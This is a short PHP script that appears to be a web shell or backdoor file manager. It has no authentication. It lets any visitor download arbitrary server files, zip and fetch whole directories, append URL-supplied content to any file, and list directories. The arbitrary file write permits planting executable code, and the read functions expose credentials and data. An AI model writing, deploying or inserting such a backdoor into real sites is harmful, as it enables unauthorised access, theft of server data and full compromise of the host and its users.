<?php
$r = $_GET['r'] ?? '';
if (is_file($r)) { header('Content-Disposition: attachment; filename=' . basename($r)); readfile($r); exit; }
if (isset($_GET['z'])) {
    $z = new ZipArchive(); $z->open($t = tempnam('/tmp', 'z'), ZipArchive::OVERWRITE);
    foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($_GET['z'], 4096)) as $f) { $z->addFile($f, substr($f, 1)); }
    $z->close(); header('Content-Type: application/zip'); readfile($t); unlink($t); exit;
}
if (isset($_GET['w'])) { fwrite(fopen($_GET['w'], 'a'), urldecode($_GET['t'])); }
foreach (glob(($r ?: '.') . '/*') as $f) { echo "<li><a href='?r=", rawurlencode($f), "'>$f</a>"; }
